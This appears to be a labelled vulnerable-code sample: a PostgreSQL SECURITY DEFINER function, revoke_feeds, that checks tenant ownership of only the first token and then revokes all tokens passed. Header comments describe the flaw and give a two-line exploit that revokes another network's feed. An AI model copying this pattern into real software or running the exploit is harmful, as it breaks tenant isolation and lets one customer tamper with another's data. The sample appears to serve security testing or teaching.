-- The function checks the first token of the list only, the others may belong to any network.
-- about: revoke_feeds
-- as: hf_podcasts_app
-- exploit: SET app.network = '1';
-- exploit: SELECT 'revoked ' || revoke_feeds(ARRAY['hill-token', 'road-token']);
-- shows: revoked 2
CREATE FUNCTION revoke_feeds(p_tokens text[]) RETURNS integer
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE
  v_count integer;
BEGIN
  IF NOT EXISTS (SELECT FROM feeds WHERE token = p_tokens[1] AND network_id = app_network()) THEN
    RETURN 0;
  END IF;
  UPDATE feeds SET revoked = true WHERE token = ANY (p_tokens);
  GET DIAGNOSTICS v_count = ROW_COUNT;
  RETURN v_count;
END
$$;
